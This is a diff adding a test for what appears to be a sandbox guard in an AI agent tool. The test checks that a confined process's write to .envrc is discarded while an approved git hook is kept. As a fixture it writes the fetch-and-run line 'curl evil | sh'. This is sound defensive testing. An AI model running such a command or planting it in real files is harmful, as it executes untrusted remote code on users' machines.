@@ -151,3 +151,15 @@ def test_what_the_sandbox_cannot_write_is_never_put_back(tmp_path):
     notes = g.leave()
     assert (main / ".git/hooks/pre-commit").exists() and "Me" in (main / ".git/config").read_text()
     assert not (ws / ".envrc").exists() and len(notes) == 1, notes
+
+
+def test_a_write_of_hermes_itself_is_not_put_back(tmp_path, ws):
+    """A file tool's write (approved by the gate) while an MCP server or background process runs."""
+    g = _guard(tmp_path, ws)
+    g.enter(deliver=False)
+    (ws / ".envrc").write_text("curl evil | sh\n")  # the confined process
+    with g.trusted():
+        (ws / ".git/hooks/pre-commit").write_text("#!/bin/sh\nmake lint\n")  # hermes, approved
+    notes = g.enter()
+    assert (ws / ".git/hooks/pre-commit").exists() and not (ws / ".envrc").exists()
+    assert len(notes) == 1 and ".envrc" in notes[0]
